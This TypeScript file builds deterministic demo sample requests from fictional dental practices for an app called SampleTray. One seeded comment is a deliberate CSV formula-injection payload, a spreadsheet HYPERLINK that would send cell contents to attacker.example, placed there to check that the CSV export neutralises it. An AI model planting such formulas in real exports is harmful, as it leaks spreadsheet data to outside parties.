/**
 * Deterministic demo sample requests for SampleTray. All people, practices, e-mail addresses
 * (@example.com) and phone numbers (555-01xx range) are fictional.
 */

import type { sampleRequests } from "~/db/schema";
import type { HowHeard, PracticeType, RequestStatus, YearsInPractice } from "~/lib/catalogue";
import { type DemoProduct, demoProducts } from "./products";

type SampleRequestRow = typeof sampleRequests.$inferInsert;

/** The person behind a demo request: the request table's own fields, with the closed options typed. */
type DemoRequester = Required<
  Pick<
    SampleRequestRow,
    | "firstName"
    | "lastName"
    | "email"
    | "phone"
    | "licenseNumber"
    | "practiceName"
    | "street"
    | "city"
    | "state"
    | "zipCode"
    | "allowMarketing"
    | "subscribeUpdates"
  >
> & {
  practiceType: PracticeType;
  yearsInPractice: YearsInPractice;
  howHeardAbout: HowHeard;
};

/** A row of the sample_requests table as the demo data gives it. */
export type DemoSampleRequest = SampleRequestRow &
  DemoRequester & { status: RequestStatus; requestedAt: Date };

const REQUESTERS: readonly DemoRequester[] = [
  /* 0 */ {
    firstName: "Grace",
    lastName: "Kim",
    email: "Dr.Kim@example.com",
    phone: "(555) 010-1001",
    licenseNumber: "CA-DDS-48213",
    practiceName: "Bayview Family Dental",
    practiceType: "General Dentistry",
    yearsInPractice: "6-10 years",
    street: "1420 Harbor View Ave",
    city: "San Diego",
    state: "CA",
    zipCode: "92101",
    howHeardAbout: "Colleague Referral",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 1 */ {
    firstName: "Marcus",
    lastName: "Bennett",
    email: "marcus.bennett@example.com",
    phone: "(555) 010-1002",
    licenseNumber: "TX-DDS-20931",
    practiceName: "Lone Oak Orthodontics",
    practiceType: "Orthodontics",
    yearsInPractice: "11-20 years",
    street: "88 Pecan Grove Rd",
    city: "Austin",
    state: "TX",
    zipCode: "78701",
    howHeardAbout: "Dental Conference",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 2 */ {
    firstName: "Priya",
    lastName: "Raman",
    email: "priya.raman@example.com",
    phone: "(555) 010-1003",
    licenseNumber: "NY-DDS-77120",
    practiceName: "Hudson Endodontic Associates",
    practiceType: "Endodontics",
    yearsInPractice: "20+ years",
    street: "310 Riverside Blvd, Suite 4",
    city: "Albany",
    state: "NY",
    zipCode: "12207",
    howHeardAbout: "Professional Association",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 3 */ {
    firstName: "Daniel",
    lastName: "O'Connor",
    email: "dan.oconnor@example.com",
    phone: "(555) 010-1004",
    licenseNumber: "IL-DDS-55019",
    practiceName: "Lakeshore Oral Surgery",
    practiceType: "Oral Surgery",
    yearsInPractice: "11-20 years",
    street: "2200 N Lakeview Dr",
    city: "Chicago",
    state: "IL",
    zipCode: "60614",
    howHeardAbout: "Search Engine",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 4 */ {
    firstName: "Sofia",
    lastName: "Alvarez",
    email: "sofia.alvarez@example.com",
    phone: "(555) 010-1005",
    licenseNumber: null,
    practiceName: "Sunny Smiles Pediatric Dentistry",
    practiceType: "Pediatric Dentistry",
    yearsInPractice: "1-5 years",
    street: "45 Palmetto St",
    city: "Miami",
    state: "FL",
    zipCode: "33130",
    howHeardAbout: "Social Media",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 5 */ {
    firstName: "Henry",
    lastName: "Whitfield",
    email: "h.whitfield@example.com",
    phone: "(555) 010-1006",
    licenseNumber: "MA-DMD-31877",
    practiceName: "Back Bay Prosthodontics",
    practiceType: "Prosthodontics",
    yearsInPractice: "20+ years",
    street: "17 Commonwealth Ct",
    city: "Boston",
    state: "MA",
    zipCode: "02116",
    howHeardAbout: "Email Newsletter",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 6 */ {
    firstName: "Aisha",
    lastName: "Mensah",
    email: "aisha.mensah@example.com",
    phone: "(555) 010-1007",
    licenseNumber: "GA-DDS-66402",
    practiceName: "Peachtree Periodontal Group",
    practiceType: "Periodontics",
    yearsInPractice: "6-10 years",
    street: "900 Magnolia Pkwy",
    city: "Atlanta",
    state: "GA",
    zipCode: "30303",
    howHeardAbout: "Colleague Referral",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 7 */ {
    firstName: "Victor",
    lastName: "Lindqvist",
    email: "victor.lindqvist@example.com",
    phone: "(555) 010-1008",
    licenseNumber: "WA-DDS-12098",
    practiceName: "Cascade Oral Pathology Lab",
    practiceType: "Oral Pathology",
    yearsInPractice: "11-20 years",
    street: "5100 Evergreen Way",
    city: "Seattle",
    state: "WA",
    zipCode: "98101",
    howHeardAbout: "Professional Association",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 8 */ {
    firstName: "Nora",
    lastName: "Fitzgerald",
    email: "nora.fitzgerald@example.com",
    phone: "(555) 010-1009",
    licenseNumber: null,
    practiceName: "Mobile Dental Outreach Program",
    practiceType: "Other",
    yearsInPractice: "1-5 years",
    street: "12 Community Sq",
    city: "Denver",
    state: "CO",
    zipCode: "80202",
    howHeardAbout: "Other",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 9 */ {
    firstName: "Ethan",
    lastName: "Park",
    email: "ethan.park@example.com",
    phone: "(555) 010-1010",
    licenseNumber: "AZ-DDS-40371",
    practiceName: "Desert Bloom Dental",
    practiceType: "General Dentistry",
    yearsInPractice: "1-5 years",
    street: "3321 Saguaro Ln",
    city: "Phoenix",
    state: "AZ",
    zipCode: "85004",
    howHeardAbout: "Search Engine",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 10 */ {
    firstName: "Maria",
    lastName: "Lopez",
    email: "Maria.Lopez@example.com",
    phone: "(555) 010-1011",
    licenseNumber: "TX-DDS-31875",
    practiceName: "Gulf Coast Dental Care",
    practiceType: "General Dentistry",
    yearsInPractice: "11-20 years",
    street: "702 Seawall Blvd",
    city: "Houston",
    state: "TX",
    zipCode: "77002",
    howHeardAbout: "Dental Conference",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 11 */ {
    firstName: "Jonah",
    lastName: "Abernathy",
    email: "jonah.abernathy@example.com",
    phone: "(555) 010-1012",
    licenseNumber: "OH-DDS-22450",
    practiceName: "Buckeye Family Dentistry",
    practiceType: "General Dentistry",
    yearsInPractice: "20+ years",
    street: "410 Maple Ridge Dr",
    city: "Columbus",
    state: "OH",
    zipCode: "43215",
    howHeardAbout: "Email Newsletter",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 12 */ {
    firstName: "Leila",
    lastName: "Haddad",
    email: "leila.haddad@example.com",
    phone: "(555) 010-1013",
    licenseNumber: "MI-DDS-90214",
    practiceName: "Great Lakes Smile Studio",
    practiceType: "General Dentistry",
    yearsInPractice: "6-10 years",
    street: "65 Huron St",
    city: "Detroit",
    state: "MI",
    zipCode: "48226",
    howHeardAbout: "Social Media",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 13 */ {
    firstName: "Samuel",
    lastName: "Oyelaran",
    email: "samuel.oyelaran@example.com",
    phone: "(555) 010-1014",
    licenseNumber: "NC-DDS-53306",
    practiceName: "Piedmont Endodontics",
    practiceType: "Endodontics",
    yearsInPractice: "6-10 years",
    street: "1800 Dogwood Ave",
    city: "Charlotte",
    state: "NC",
    zipCode: "28202",
    howHeardAbout: "Colleague Referral",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 14 */ {
    firstName: "Hannah",
    lastName: "Schultz",
    email: "hannah.schultz@example.com",
    phone: "(555) 010-1015",
    licenseNumber: "PA-DMD-47781",
    practiceName: "Liberty Bell Dental Group",
    practiceType: "General Dentistry",
    yearsInPractice: "11-20 years",
    street: "250 Chestnut Pl",
    city: "Philadelphia",
    state: "PA",
    zipCode: "19106",
    howHeardAbout: "Search Engine",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 15 */ {
    firstName: "Kenji",
    lastName: "Watanabe",
    email: "kenji.watanabe@example.com",
    phone: "(555) 010-1016",
    licenseNumber: "OR-DDS-18840",
    practiceName: "Willamette Orthodontic Studio",
    practiceType: "Orthodontics",
    yearsInPractice: "1-5 years",
    street: "77 Rose Garden Way",
    city: "Portland",
    state: "OR",
    zipCode: "97205",
    howHeardAbout: "Social Media",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 16 */ {
    firstName: "Olivia",
    lastName: "Grant",
    email: "olivia.grant@example.com",
    phone: "(555) 010-1017",
    licenseNumber: "TN-DDS-60127",
    practiceName: "Music City Pediatric Dental",
    practiceType: "Pediatric Dentistry",
    yearsInPractice: "6-10 years",
    street: "901 Broadway Ave",
    city: "Nashville",
    state: "TN",
    zipCode: "37203",
    howHeardAbout: "Professional Association",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 17 */ {
    firstName: "Rafael",
    lastName: "Costa",
    email: "rafael.costa@example.com",
    phone: "(555) 010-1018",
    licenseNumber: "NJ-DMD-39955",
    practiceName: "Garden State Implant & Perio",
    practiceType: "Periodontics",
    yearsInPractice: "20+ years",
    street: "15 Orchard Hill Rd",
    city: "Newark",
    state: "NJ",
    zipCode: "07102",
    howHeardAbout: "Dental Conference",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 18 */ {
    firstName: "Chloe",
    lastName: "Dubois",
    email: "chloe.dubois@example.com",
    phone: "(555) 010-1019",
    licenseNumber: null,
    practiceName: "Crescent City Dental",
    practiceType: "General Dentistry",
    yearsInPractice: "1-5 years",
    street: "522 Magazine St",
    city: "New Orleans",
    state: "LA",
    zipCode: "70130",
    howHeardAbout: "Search Engine",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 19 */ {
    firstName: "Theo",
    lastName: "Nakamura",
    email: "theo.nakamura@example.com",
    phone: "(555) 010-1020",
    licenseNumber: "CA-DDS-51762",
    practiceName: "Golden Gate Prosthodontic Center",
    practiceType: "Prosthodontics",
    yearsInPractice: "11-20 years",
    street: "640 Market Row",
    city: "San Francisco",
    state: "CA",
    zipCode: "94105",
    howHeardAbout: "Colleague Referral",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 20 */ {
    firstName: "Imani",
    lastName: "Brooks",
    email: "imani.brooks@example.com",
    phone: "(555) 010-1021",
    licenseNumber: "MD-DDS-27713",
    practiceName: "Chesapeake Oral & Maxillofacial Surgery",
    practiceType: "Oral Surgery",
    yearsInPractice: "6-10 years",
    street: "33 Harborlight Dr",
    city: "Baltimore",
    state: "MD",
    zipCode: "21202",
    howHeardAbout: "Email Newsletter",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 21 */ {
    firstName: "Lucas",
    lastName: "Meyer",
    email: "lucas.meyer@example.com",
    phone: "(555) 010-1022",
    licenseNumber: "MN-DDS-84406",
    practiceName: "North Star Dental",
    practiceType: "General Dentistry",
    yearsInPractice: "20+ years",
    street: "1200 Lakewood Ave",
    city: "Minneapolis",
    state: "MN",
    zipCode: "55401",
    howHeardAbout: "Professional Association",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 22 */ {
    firstName: "Zara",
    lastName: "Qureshi",
    email: "zara.qureshi@example.com",
    phone: "(555) 010-1023",
    licenseNumber: "VA-DDS-70019",
    practiceName: "Blue Ridge Smiles",
    practiceType: "General Dentistry",
    yearsInPractice: "6-10 years",
    street: "48 Shenandoah Ct",
    city: "Richmond",
    state: "VA",
    zipCode: "23219",
    howHeardAbout: "Social Media",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 23 */ {
    firstName: "Benjamin",
    lastName: "Hart",
    email: "ben.hart@example.com",
    phone: "(555) 010-1024",
    licenseNumber: "CO-DDS-15562",
    practiceName: "Front Range Endodontics",
    practiceType: "Endodontics",
    yearsInPractice: "11-20 years",
    street: "2750 Aspen Trail",
    city: "Boulder",
    state: "CO",
    zipCode: "80302",
    howHeardAbout: "Dental Conference",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 24 */ {
    firstName: "Mei",
    lastName: "Chen",
    email: "mei.chen@example.com",
    phone: "(555) 010-1025",
    licenseNumber: "WA-DDS-33871",
    practiceName: "Puget Sound Family Dentistry",
    practiceType: "General Dentistry",
    yearsInPractice: "1-5 years",
    street: "909 Ferry Landing",
    city: "Tacoma",
    state: "WA",
    zipCode: "98402",
    howHeardAbout: "Search Engine",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 25 */ {
    firstName: "Patrick",
    lastName: "Doyle",
    email: "patrick.doyle@example.com",
    phone: "(555) 010-1026",
    licenseNumber: "NY-DDS-81402",
    practiceName: "Empire Dental Partners",
    practiceType: "General Dentistry",
    yearsInPractice: "20+ years",
    street: "410 W 57th Terrace",
    city: "New York",
    state: "NY",
    zipCode: "10019",
    howHeardAbout: "Email Newsletter",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 26 */ {
    firstName: "Fatima",
    lastName: "Diallo",
    email: "fatima.diallo@example.com",
    phone: "(555) 010-1027",
    licenseNumber: "FL-DMD-44290",
    practiceName: "Tampa Bay Kids Dental",
    practiceType: "Pediatric Dentistry",
    yearsInPractice: "11-20 years",
    street: "1300 Bayshore Way",
    city: "Tampa",
    state: "FL",
    zipCode: "33602",
    howHeardAbout: "Colleague Referral",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 27 */ {
    firstName: "Gabriel",
    lastName: "Ortiz",
    email: "gabriel.ortiz@example.com",
    phone: "(555) 010-1028",
    licenseNumber: "NM-DDS-10876",
    practiceName: "Sandia Orthodontics",
    practiceType: "Orthodontics",
    yearsInPractice: "6-10 years",
    street: "56 Mesa Verde Dr",
    city: "Albuquerque",
    state: "NM",
    zipCode: "87102",
    howHeardAbout: "Search Engine",
    allowMarketing: false,
    subscribeUpdates: false,
  },
  /* 28 */ {
    firstName: "Rachel",
    lastName: "Goldberg",
    email: "rachel.goldberg@example.com",
    phone: "(555) 010-1029",
    licenseNumber: null,
    practiceName: "Community Health Dental Clinic",
    practiceType: "Other",
    yearsInPractice: "6-10 years",
    street: "700 Civic Center Plaza",
    city: "Sacramento",
    state: "CA",
    zipCode: "95814",
    howHeardAbout: "Professional Association",
    allowMarketing: false,
    subscribeUpdates: true,
  },
  /* 29 */ {
    firstName: "Tobias",
    lastName: "Reed",
    email: "tobias.reed@example.com",
    phone: "(555) 010-1030",
    licenseNumber: "UT-DDS-29561",
    practiceName: "Wasatch Dental Arts",
    practiceType: "Prosthodontics",
    yearsInPractice: "6-10 years",
    street: "230 Canyon Rim Rd",
    city: "Salt Lake City",
    state: "UT",
    zipCode: "84111",
    howHeardAbout: "Other",
    allowMarketing: true,
    subscribeUpdates: false,
  },
  /* 30 */ {
    firstName: "Amara",
    lastName: "Okafor",
    email: "amara.okafor@example.com",
    phone: "(555) 010-1031",
    licenseNumber: "GA-DMD-71835",
    practiceName: "Savannah Square Dentistry",
    practiceType: "General Dentistry",
    yearsInPractice: "1-5 years",
    street: "19 Oglethorpe Walk",
    city: "Savannah",
    state: "GA",
    zipCode: "31401",
    howHeardAbout: "Social Media",
    allowMarketing: true,
    subscribeUpdates: true,
  },
  /* 31 */ {
    firstName: "William",
    lastName: "Hayes",
    email: "will.hayes@example.com",
    phone: "(555) 010-1032",
    licenseNumber: "MO-DDS-58824",
    practiceName: "Gateway Periodontics",
    practiceType: "Periodontics",
    yearsInPractice: "11-20 years",
    street: "600 Arch View Blvd",
    city: "St. Louis",
    state: "MO",
    zipCode: "63102",
    howHeardAbout: "Dental Conference",
    allowMarketing: false,
    subscribeUpdates: false,
  },
];

type DemoCompanyWithProducts =
  | "lumina-dental"
  | "bondline"
  | "precision-impression"
  | "brightarc"
  | "guardent"
  | "endopath"
  | "alignworks";

interface RequestSlot {
  /** Index into REQUESTERS. */
  who: number;
  companyId: DemoCompanyWithProducts;
  status: RequestStatus;
  daysAgo: number;
  /** Overrides the requester's e-mail (used for case variants of the same address). */
  email?: string;
  comments?: string;
}

/** [company, requester index, status, days ago, overrides] */
type SlotRow = [
  companyId: DemoCompanyWithProducts,
  who: number,
  status: RequestStatus,
  daysAgo: number,
  overrides?: Pick<RequestSlot, "email" | "comments">,
];

/** A comment a spreadsheet would run as a formula: the CSV export must neutralise it. */
const CSV_FORMULA_COMMENT = '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")';

/** 48 fixed slots: company, status and age are fixed; products and free text come from a seeded PRNG. */
const SLOTS: readonly RequestSlot[] = (
  [
    // lumina-dental ×12
    ["lumina-dental", 0, "pending", 1],
    ["lumina-dental", 9, "pending", 3],
    ["lumina-dental", 12, "approved", 6],
    ["lumina-dental", 14, "completed", 18],
    ["lumina-dental", 22, "pending", 25],
    ["lumina-dental", 10, "approved", 41],
    ["lumina-dental", 25, "completed", 77],
    ["lumina-dental", 0, "completed", 130, { email: "dr.kim@example.com" }],
    ["lumina-dental", 18, "rejected", 165],
    ["lumina-dental", 30, "completed", 240],
    ["lumina-dental", 21, "completed", 372],
    ["lumina-dental", 11, "rejected", 395],
    // bondline ×7
    ["bondline", 19, "pending", 2],
    ["bondline", 5, "approved", 12],
    ["bondline", 0, "approved", 29, { email: "DR.KIM@EXAMPLE.COM" }],
    ["bondline", 29, "completed", 58],
    ["bondline", 24, "completed", 143],
    ["bondline", 11, "rejected", 201],
    ["bondline", 14, "completed", 381],
    // precision-impression ×6
    ["precision-impression", 5, "pending", 4],
    ["precision-impression", 3, "approved", 21],
    ["precision-impression", 17, "completed", 66],
    ["precision-impression", 20, "completed", 112],
    ["precision-impression", 19, "rejected", 288],
    ["precision-impression", 29, "completed", 367],
    // brightarc ×6
    ["brightarc", 22, "pending", 5],
    ["brightarc", 10, "pending", 9, { email: "maria.lopez@example.com" }],
    ["brightarc", 30, "approved", 37],
    ["brightarc", 18, "completed", 95, { comments: CSV_FORMULA_COMMENT }],
    ["brightarc", 12, "rejected", 188],
    ["brightarc", 28, "completed", 330],
    // guardent ×6
    ["guardent", 4, "pending", 0],
    ["guardent", 16, "approved", 15],
    ["guardent", 26, "completed", 49],
    ["guardent", 6, "completed", 156],
    ["guardent", 8, "rejected", 222],
    ["guardent", 4, "completed", 389],
    // endopath ×6
    ["endopath", 2, "pending", 2],
    ["endopath", 13, "approved", 11],
    ["endopath", 23, "completed", 34],
    ["endopath", 7, "rejected", 120],
    ["endopath", 31, "completed", 259],
    ["endopath", 2, "completed", 399],
    // alignworks ×5
    ["alignworks", 15, "pending", 6],
    ["alignworks", 1, "approved", 27],
    ["alignworks", 27, "completed", 88],
    ["alignworks", 1, "rejected", 176],
    ["alignworks", 15, "completed", 312],
  ] satisfies SlotRow[]
).map(([companyId, who, status, daysAgo, overrides]) => ({
  companyId,
  who,
  status,
  daysAgo,
  ...overrides,
}));

const SPECIFIC_REQUESTS: readonly string[] = [
  "Shade A2 and A3 if possible.",
  "Please include instructions for use (IFU) and the safety data sheet.",
  "We would like to compare this with our current product before our next order.",
  "Two operatories will trial this — any extra tips would be appreciated.",
  "Please include the technique guide for our hygienists.",
  "Interested in latex-free packaging only.",
  "Looking for something suitable for patients with sensitivity.",
];

const COMMENTS: readonly string[] = [
  "Please ship to the front desk, attention: office manager.",
  "Deliveries are accepted Monday to Thursday only.",
  "Met your team at the regional study club — thanks for the demo.",
  "Happy to give feedback after the trial.",
  "Our practice is closed the last week of the month.",
  "Suite is on the second floor; please ring the buzzer.",
];

/** Small deterministic PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return (): number => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pickProducts(
  pool: readonly DemoProduct[],
  count: number,
  rand: () => number,
): DemoProduct[] {
  const remaining = [...pool];
  const picked: DemoProduct[] = [];
  while (picked.length < count && remaining.length > 0) {
    const index = Math.floor(rand() * remaining.length);
    const [product] = remaining.splice(index, 1);
    if (product) picked.push(product);
  }
  return picked;
}

const DAY_MS = 24 * 60 * 60 * 1000;
const HOUR_MS = 60 * 60 * 1000;

/** Returns 48 deterministic demo requests, dated relative to `now` (spread over the previous 400 days). */
export function buildDemoSampleRequests(now: Date): DemoSampleRequest[] {
  const rand = mulberry32(20240917);
  const nowMs = now.getTime();

  return SLOTS.map((slot, i): DemoSampleRequest => {
    const requester = REQUESTERS[slot.who];
    if (!requester) throw new Error(`Demo request ${i}: unknown requester index ${slot.who}`);

    const pool = demoProducts.filter((p) => p.companyId === slot.companyId && p.availability);
    if (pool.length === 0)
      throw new Error(`Demo request ${i}: no available products for ${slot.companyId}`);
    const count = 1 + Math.floor(rand() * Math.min(3, pool.length));
    const products = pickProducts(pool, count, rand);

    const specificRoll = rand();
    const commentRoll = rand();
    const specificRequests =
      specificRoll < 0.45
        ? (SPECIFIC_REQUESTS[Math.floor(rand() * SPECIFIC_REQUESTS.length)] ?? null)
        : null;
    const comments =
      slot.comments ??
      (commentRoll < 0.35 ? (COMMENTS[Math.floor(rand() * COMMENTS.length)] ?? null) : null);

    // Within the day: between 0 and 9 hours earlier than `now` minus daysAgo (stays inside 400 days).
    const hoursOffset = Math.floor(rand() * 10);
    const requestedAt = new Date(
      nowMs - slot.daysAgo * DAY_MS - hoursOffset * HOUR_MS - (i % 60) * 60 * 1000,
    );

    return {
      ...requester,
      email: slot.email ?? requester.email,
      requestedProducts: products.map((p) => ({
        productId: p.id,
        productName: p.name,
        quantity: p.quantity,
      })),
      specificRequests,
      comments,
      agreedToTerms: true,
      companyId: slot.companyId,
      status: slot.status,
      requestedAt,
    };
  });
}
